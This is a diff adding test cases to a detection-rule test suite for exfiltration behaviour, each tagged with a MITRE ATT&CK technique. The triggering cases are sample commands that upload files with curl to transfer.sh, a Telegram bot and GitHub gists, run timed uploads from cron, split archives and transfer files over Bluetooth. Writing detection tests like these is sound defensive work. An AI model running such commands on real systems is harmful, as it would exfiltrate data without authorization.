@@ -77,4 +77,68 @@ testContent('exfiltration.yaml', {
       },
     },
   },
+  'Upload started by a timer': {
+    as: 'notice exfiltration T1029 T1020',
+    fires: {
+      curl: (s) =>
+        s.start(
+          '/usr/bin/curl -T /srv/x https://x.example',
+          s.start('/bin/sh -c x', s.start('/usr/sbin/cron -f', s.init)),
+        ),
+    },
+    quiet: {
+      'by hand': (s) => s.start('/usr/bin/curl -T /srv/x https://x.example'),
+      'something is fetched': (s) =>
+        s.start(
+          '/usr/bin/curl -o /srv/x https://x.example',
+          s.start('/bin/sh -c x', s.start('/usr/sbin/cron -f', s.init)),
+        ),
+    },
+  },
+  'Archive cut into pieces': {
+    as: 'notice exfiltration T1030',
+    fires: {
+      split: (s) => s.start('/usr/bin/split -b 10M /tmp/x.tar.gz /tmp/part'),
+      '7z': (s) => s.start('/usr/bin/7z a -v10m /tmp/x.7z /srv'),
+    },
+    quiet: {
+      'lines of a text': (s) => s.start('/usr/bin/split -l 1000 list.txt part'),
+      'another file': (s) => s.start('/usr/bin/split -b 1M firmware.bin part'),
+    },
+  },
+  'File left at a service for anybody': {
+    as: 'warning exfiltration T1567.003 T1567.004',
+    fires: {
+      'to a place for files': (s) => s.start('/usr/bin/curl -T db.sql https://transfer.sh/x'),
+      'to a chat': (s) => s.start('/usr/bin/curl -F document=@x.zip https://api.telegram.org/bot1/sendDocument'),
+    },
+    quiet: {
+      'a message': (s) => s.start('/usr/bin/curl -d text=done https://hooks.slack.com/services/x'),
+      'a message from a file': (s) => s.start('/usr/bin/curl -d @message.json https://hooks.slack.com/services/x'),
+      'something is fetched': (s) => s.start('/usr/bin/curl https://transfer.sh/x -o x'),
+      'to a server of ours': (s) => s.start('/usr/bin/curl -T x https://repo.example/x'),
+    },
+  },
+  'Text left in a repository of code': {
+    as: 'notice exfiltration T1567.001',
+    fires: {
+      gh: (s) => s.start('/usr/bin/gh gist create x.txt'),
+      curl: (s) => s.start('/usr/bin/curl -d @x https://api.github.com/gists'),
+    },
+    quiet: {
+      'they are listed': (s) => s.start('/usr/bin/gh gist list'),
+      'a change is proposed': (s) => s.start('/usr/bin/gh pr create'),
+    },
+  },
+  'Other way out of the machine opened': {
+    as: 'notice exfiltration T1011.001',
+    fires: {
+      'a file by Bluetooth': (s) => s.start('/usr/bin/obexftp -b 00:11:22:33:44:55 -p x'),
+      'a network': (s) => s.start('/usr/bin/nmcli device wifi hotspot'),
+    },
+    quiet: {
+      'networks are shown': (s) => s.start('/usr/bin/nmcli device wifi list'),
+      'a service of the system': (s) => s.start('/usr/sbin/hostapd /etc/hostapd.conf', s.init),
+    },
+  },
 });
